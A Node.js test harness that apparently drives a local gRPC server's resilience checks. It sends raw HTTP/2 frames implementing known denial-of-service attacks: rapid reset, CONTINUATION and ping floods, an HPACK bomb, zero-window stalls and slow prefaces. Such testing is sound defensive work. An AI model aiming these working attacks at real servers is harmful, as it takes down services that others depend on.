/**
 * An attacker in a process of its own, so that what it costs is not what the server costs: raw HTTP/2 frames on one socket.
 * For each line `ID KIND PORT MS`, with ` tls` behind it for TLS, it attacks, also several at once, and writes a line of JSON
 * when the server ended the connection, or the time is over.
 */
import { connect } from "node:net";
import { createInterface } from "node:readline";
import { connect as connectTls } from "node:tls";

const DATA = 0;
const HEADERS = 1;
const PRIORITY = 2;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const GOAWAY = 7;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function uint32(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
}

/** HPACK without Huffman and without the dynamic table, unless it is told to use it. */
function literal(name, value, prefix = 0) {
  return Buffer.concat([Buffer.from([prefix]), text(name), text(value)]);
}

function text(value) {
  const bytes = Buffer.from(value);
  return Buffer.concat([integer(bytes.length, 7, 0), bytes]);
}

function integer(value, bits, high) {
  const most = (1 << bits) - 1;
  if (value < most) return Buffer.from([high | value]);
  const bytes = [high | most];
  let rest = value - most;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128);
  bytes.push(rest);
  return Buffer.from(bytes);
}

/** POST, http, a path, an authority, content-type. */
function request(path, more = []) {
  return Buffer.concat([
    Buffer.from([0x83, 0x86]),
    literal(":path", path),
    literal(":authority", "localhost"),
    literal("content-type", "application/grpc"),
    literal("te", "trailers"),
    ...more,
  ]);
}

const POST = "/queue.QueueApi/PostEvent";
const ACK = "/queue.QueueApi/Ack";

/** What is the same each time is made once. */
function always(make) {
  let made;
  return () => {
    made ??= make();
    return made;
  };
}

function attack(kind, port, limitMs, isSecure) {
  return new Promise((resolve) => {
    let nextStream = 1;
    const stream = () => {
      const id = nextStream;
      nextStream += 2;
      return id;
    };

    const many = (count, make) => Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
    const settings = (pairs = []) => {
      const bytes = Buffer.concat(pairs.map(([id, value]) => Buffer.concat([Buffer.from([0, id]), uint32(value)])));
      return frame(SETTINGS, 0, 0, bytes);
    };

    /** Of each kind: what is sent first, and what again and again for as long as the server takes it. */
    const KINDS = {
      "rapid-reset": {
        more: () =>
          many(200, () => {
            const id = stream();
            return Buffer.concat([frame(HEADERS, END_HEADERS, id, request(ACK)), frame(RST_STREAM, 0, id, uint32(8))]);
          }),
      },
      /** The server is made to reset each stream: a window update of nothing is an error of the stream. */
      "made-you-reset": {
        more: () =>
          many(200, () => {
            const id = stream();
            return Buffer.concat([
              frame(HEADERS, END_HEADERS, id, request(ACK)),
              frame(WINDOW_UPDATE, 0, id, uint32(0)),
            ]);
          }),
      },
      /** Each stream is whole, and refused: an rpc that there is not. */
      "unknown-rpc": {
        more: () => many(200, () => frame(HEADERS, END_HEADERS | END_STREAM, stream(), request("/x.Y/Z"))),
      },
      ping: { more: () => many(2_000, (index) => frame(PING, 0, 0, Buffer.concat([uint32(0), uint32(index)]))) },
      /** Slowly enough for the answers to go out. */
      "paced-ping": {
        everyMs: 1,
        more: () => many(40, (index) => frame(PING, 0, 0, Buffer.concat([uint32(0), uint32(index)]))),
      },
      "paced-settings": { everyMs: 2, more: () => many(10, (index) => settings([[4, 65_535 + (index % 2)]])) },
      settings: { more: () => many(1_000, (index) => settings([[4, 65_535 + (index % 2)]])) },
      "empty-data": {
        first: () => frame(HEADERS, END_HEADERS, stream(), request(ACK)),
        more: () => many(3_000, () => frame(DATA, 0, 1)),
      },
      /** Frames of one byte: gRPC messages of which each says that it has no bytes. */
      "tiny-data": {
        first: () => frame(HEADERS, END_HEADERS, stream(), request("/fairlead.v1.Events/PostEvents")),
        more: () => many(3_000, () => frame(DATA, 0, 1, Buffer.alloc(1))),
      },
      continuation: {
        first: () => frame(HEADERS, 0, stream(), request(ACK)),
        more: () => many(50, (index) => frame(CONTINUATION, 0, 1, literal(`x-${index}`, "y".repeat(200)))),
      },
      "slow-continuation": {
        first: () => frame(HEADERS, 0, stream(), request(ACK)),
        everyMs: 200,
        more: () => frame(CONTINUATION, 0, 1, literal("x", "y")),
      },
      "window-update": { more: always(() => many(3_000, () => frame(WINDOW_UPDATE, 0, 0, uint32(1)))) },
      priority: {
        more: always(() =>
          many(2_000, (index) => frame(PRIORITY, 0, 2 * (index % 1_000) + 1, Buffer.from([0, 0, 0, 0, 16]))),
        ),
      },
      /** Of a type that nobody knows; to be ignored. */
      unknown: { more: always(() => many(3_000, () => frame(0xbb, 0, 0))) },
      /** Streams with a header block of 60 KB, each refused or taken. */
      "huge-headers": {
        more: () => {
          const block = request(ACK, [literal("x-a", "y".repeat(15_000))]);
          const parts = [1, 2, 3].map((part) => literal(`x-${part}`, "y".repeat(15_000)));
          return many(10, () => {
            const id = stream();
            return Buffer.concat([
              frame(HEADERS, END_STREAM, id, block),
              ...parts.map((part, index) => frame(CONTINUATION, index === 2 ? END_HEADERS : 0, id, part)),
            ]);
          });
        },
      },
      /** One long header in the table, then blocks that name it again and again, one byte each. */
      "hpack-bomb": {
        first: () =>
          frame(HEADERS, END_HEADERS | END_STREAM, stream(), request(ACK, [literal("x", "y".repeat(3_900), 0x40)])),
        more: () =>
          many(50, () =>
            frame(HEADERS, END_HEADERS | END_STREAM, stream(), request(ACK, [Buffer.alloc(8_000, 0x80 | 62)])),
          ),
      },
      /** Many tiny headers, in one block. */
      "many-headers": {
        more: () =>
          many(20, () =>
            frame(HEADERS, END_HEADERS | END_STREAM, stream(), request(ACK, [many(1_500, () => literal("x", "y"))])),
          ),
      },
      /** Calls that are in order, as many as go through, by a client with a token. */
      calls: {
        more: () =>
          many(200, () => {
            const id = stream();
            return Buffer.concat([
              frame(HEADERS, END_HEADERS, id, request(ACK, [literal("authorization", "Bearer attacker-token-0123")])),
              frame(DATA, END_STREAM, id, Buffer.from([0, 0, 0, 0, 0])),
            ]);
          }),
      },
      /** As many subscriptions as there may be streams, each under a name of its own. */
      subscriptions: {
        everyMs: 20,
        more: () =>
          nextStream > 3_000
            ? Buffer.alloc(0)
            : many(100, () => {
                const id = stream();
                const name = Buffer.from(`attacker${id}`);
                const message = Buffer.concat([
                  Buffer.from([0]),
                  uint32(name.length + 2),
                  Buffer.from([10, name.length]),
                  name,
                ]);
                return Buffer.concat([
                  frame(HEADERS, END_HEADERS, id, request("/queue.QueueApi/SubscribeEvents")),
                  frame(DATA, END_STREAM, id, message),
                ]);
              }),
      },
      /** Takes no answer: each stream has a window of nothing, and the socket is not read either. */
      "zero-window": {
        settings: [[4, 0]],
        isDeaf: true,
        more: () =>
          many(200, () => {
            const id = stream();
            return Buffer.concat([
              frame(HEADERS, END_HEADERS, id, request("/fairlead.v1.Events/Ack")),
              frame(DATA, END_STREAM, id, Buffer.from([0, 0, 0, 0, 0])),
            ]);
          }),
      },
      /** As many messages as there may be streams, each but for its last byte. */
      "unfinished-messages": {
        more: () => Buffer.concat(Array.from({ length: 20 }, unfinishedPart)),
      },
      /** The same, until one of them is answered. */
      "unfinished-until-answered": {
        endsWhenAnswered: true,
        more: () => Buffer.concat(Array.from({ length: 20 }, unfinishedPart)),
      },
      /** Bytes of a stream that has ended. */
      "after-end": {
        first: () => frame(HEADERS, END_HEADERS | END_STREAM, stream(), request(ACK)),
        more: always(() => many(1_000, () => frame(DATA, 0, 1, Buffer.alloc(1)))),
      },
      nothing: { preface: Buffer.alloc(0), isMute: true },
      "half-preface": { preface: PREFACE.subarray(0, 10), isMute: true },
      "slow-preface": { preface: PREFACE.subarray(0, 1), isMute: true, everyMs: 100, more: dripPreface },
      "preface-alone": { preface: PREFACE, isMute: true },
      /** Does everything right, and then nothing: no call, and no answer to a ping. */
      idle: { isMute: true },
    };

    let dripped = 1;
    function dripPreface() {
      dripped += 1;
      return PREFACE.subarray(dripped - 1, dripped);
    }

    const MESSAGE_BYTES = 4_000_000;
    const sentOf = new Map();
    let turn = 0;
    /** Fills messages that never end, over all streams in turn; windows are the server's own 64 KiB and what it adds. */
    function unfinishedPart() {
      if (sentOf.size < 500) {
        const id = stream();
        sentOf.set(id, 5);
        return Buffer.concat([
          frame(HEADERS, END_HEADERS, id, request(POST)),
          frame(DATA, 0, id, Buffer.concat([Buffer.from([0]), uint32(MESSAGE_BYTES)])),
        ]);
      }
      const ids = [...sentOf.keys()];
      const parts = [];
      for (let tries = 0; tries < ids.length && parts.length < 4; tries += 1) {
        turn = (turn + 1) % ids.length;
        const id = ids[turn];
        const room = Math.min(16_000, streamWindow(id), connectionWindow, MESSAGE_BYTES - sentOf.get(id));
        if (room <= 0) continue;
        sentOf.set(id, sentOf.get(id) + room);
        windows.set(id, streamWindow(id) - room);
        connectionWindow -= room;
        parts.push(frame(DATA, 0, id, Buffer.alloc(room)));
      }
      return Buffer.concat(parts);
    }

    let connectionWindow = 65_535;
    const windows = new Map();
    const streamWindow = (id) => windows.get(id) ?? 65_535;

    const spec = KINDS[kind];
    if (spec === undefined) throw new Error(`unknown kind ${kind}; known are ${Object.keys(KINDS).join(", ")}`);

    const result = { kind, bytes: 0, answers: 0, goaway: null, pings: 0, endedMs: null, connected: true };
    const startedAt = performance.now();
    const socket = isSecure
      ? connectTls({ port, host: "127.0.0.1", rejectUnauthorized: false, ALPNProtocols: ["h2"] })
      : connect(port, "127.0.0.1");
    socket.setNoDelay(true);

    let isOver = false;
    function finish() {
      if (isOver) return;
      isOver = true;
      clearTimeout(limit);
      socket.destroy();
      resolve(result);
    }

    socket.on("error", () => {});
    socket.on("close", () => {
      result.endedMs = Math.round(performance.now() - startedAt);
      finish();
    });
    const limit = setTimeout(finish, limitMs);

    let buffered = Buffer.alloc(0);
    function take(chunk) {
      buffered = Buffer.concat([buffered, chunk]);
      while (buffered.length >= 9) {
        const length = buffered.readUIntBE(0, 3);
        if (buffered.length < 9 + length) return;
        const type = buffered[3];
        const flags = buffered[4];
        const id = buffered.readUInt32BE(5) & 0x7fffffff;
        const payload = buffered.subarray(9, 9 + length);
        buffered = buffered.subarray(9 + length);
        if (type === GOAWAY) result.goaway = payload.readUInt32BE(4);
        if (type === HEADERS) result.answers += 1;
        if (type === HEADERS && spec.endsWhenAnswered === true) finish();
        if (type === WINDOW_UPDATE) {
          const more = payload.readUInt32BE(0);
          if (id === 0) connectionWindow += more;
          else windows.set(id, streamWindow(id) + more);
        }
        if (spec.isMute) continue;
        if (type === PING && !(flags & 1)) {
          result.pings += 1;
          socket.write(frame(PING, 1, 0, Buffer.from(payload)));
        }
        if (type === SETTINGS && !(flags & 1)) socket.write(frame(SETTINGS, 1, 0));
      }
    }

    function send(bytes) {
      result.bytes += bytes.length;
      return socket.write(bytes);
    }

    function pump() {
      if (isOver || socket.destroyed) return;
      if (socket.writableLength > 1_000_000) {
        socket.once("drain", pump);
        return;
      }
      const bytes = spec.more();
      if (bytes.length > 0) send(bytes);
      if (spec.everyMs !== undefined) setTimeout(pump, spec.everyMs);
      else if (bytes.length > 0) setImmediate(pump);
      else setTimeout(pump, 5);
    }

    socket.once(isSecure ? "secureConnect" : "connect", () => {
      if (spec.preface === undefined) send(Buffer.concat([PREFACE, settings(spec.settings)]));
      else if (spec.preface.length > 0) send(spec.preface);
      if (spec.first !== undefined) send(spec.first());
      if (spec.isDeaf === true) socket.pause();
      else socket.on("data", take);
      if (spec.more !== undefined) pump();
    });
  });
}

async function answer(line) {
  const [id, kind, port, ms, tls] = line.split(" ");
  const result = await attack(kind, Number(port), Number(ms), tls === "tls");
  process.stdout.write(`${JSON.stringify({ id: Number(id), ...result })}\n`);
}

createInterface({ input: process.stdin }).on("line", (line) => void answer(line));
